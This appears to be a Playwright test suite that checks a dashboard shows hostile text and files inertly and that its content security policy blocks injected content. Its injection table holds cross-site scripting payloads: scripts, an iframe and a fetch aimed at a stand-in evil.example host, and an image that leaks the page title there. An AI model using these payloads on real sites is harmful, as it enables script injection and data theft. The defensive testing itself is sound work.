"""Hostile words and files stay words, and the content security policy holds when something gets through."""

import pytest
from playwright.sync_api import Page, expect

from tests.embedded.dashboard.hostile_ledger import DRAWING, HOSTILE_KEY, MARKUP, PAGE, SHAS
from tests.embedded.dashboard.visitor import Visitor, open_everything

pytestmark = pytest.mark.timeout(240)
TASK = f"task.html?key={HOSTILE_KEY}"
INJECTIONS = {
    "an inline script": "add('script', {textContent: 'document.documentElement.dataset.pwned = 1'})",
    "a script from elsewhere": "add('script', {src: 'https://evil.example/x.js'})",
    "a script in a blob": "add('script', {src: URL.createObjectURL(new Blob(['document.body.remove()']))})",
    "markup": "document.body.innerHTML = '<p>taken over</p>'",
    "a style": "add('style', {textContent: 'main { display: none }'})",
    "a picture that tells": "add('img', {src: 'https://evil.example/?' + document.title})",
    "a frame": "add('iframe', {src: 'https://evil.example/'})",
    "a request": "fetch('https://evil.example/').catch(() => {})",
    "an evaluated text": 'setTimeout("document.documentElement.dataset.pwned = 1")',
}


def is_pwned(page: Page) -> bool:
    return bool(page.evaluate("'pwned' in document.documentElement.dataset"))


def test_hostile_words__do_not_run_anywhere(visitor: Visitor) -> None:
    visitor.expected = ["Failed to load resource"]
    for address in ("index.html", "tasks.html?q=javascript", TASK):
        with visitor.page(address) as page:
            assert MARKUP[:40] in (page.locator("main").text_content() or "")
            open_everything(page)
            assert not is_pwned(page)
            assert page.locator("a[href^='javascript' i]").count() == 0
            assert page.locator("main script, main [onerror], main [onload], main [onclick]").count() == 0


def test_hostile_files__are_shown_as_they_are(visitor: Visitor) -> None:
    with visitor.page(f"{TASK}&version={SHAS[1]}&file=index.html") as page:
        assert page.locator(".viewer pre").text_content() == PAGE
        page.locator(".files button", has_text="onerror").click()
        expect(page.locator(".viewer h3")).to_have_text("<img src=x onerror=alert(1)>.md")
        page.locator(".files button", has_text="drawing.svg").click()
        picture = page.locator(".viewer img")
        expect(picture).to_have_attribute("alt", "The picture drawing.svg")
        page.wait_for_function("document.querySelector('.viewer img').naturalWidth > 0")
        assert not is_pwned(page)


def test_hostile_files__are_compared_as_text(visitor: Visitor) -> None:
    with visitor.page(TASK) as page:
        lines = page.get_by_role("region", name="Changes in index.html").locator("tr.added .line-text")
        expect(lines).to_have_count(PAGE.count("\n"))
        assert lines.all_text_contents() == PAGE.split("\n")[:-1]
        svg = page.get_by_role("region", name="Changes in drawing.svg")
        expect(svg.locator("tr.added .line-text")).to_have_text([DRAWING])
        assert not is_pwned(page)


@pytest.mark.parametrize("what", INJECTIONS)
def test_policy__stops_what_got_through(visitor: Visitor, what: str) -> None:
    visitor.expected = ["Content Security Policy", "TrustedHTML|TrustedScript", "evil.example"]
    with visitor.page("index.html") as page:
        # In a script of the page itself, as a hole in it would be; and what the policy stops is an event.
        page.evaluate("""injection => {
            const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
            window.stopped = new Promise(resolve => document.addEventListener("securitypolicyviolation", resolve));
            window.add = add;
        }""")
        page.evaluate(f"async () => {{ try {{ {INJECTIONS[what]} }} catch {{}} await window.stopped }}")
        assert not is_pwned(page)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
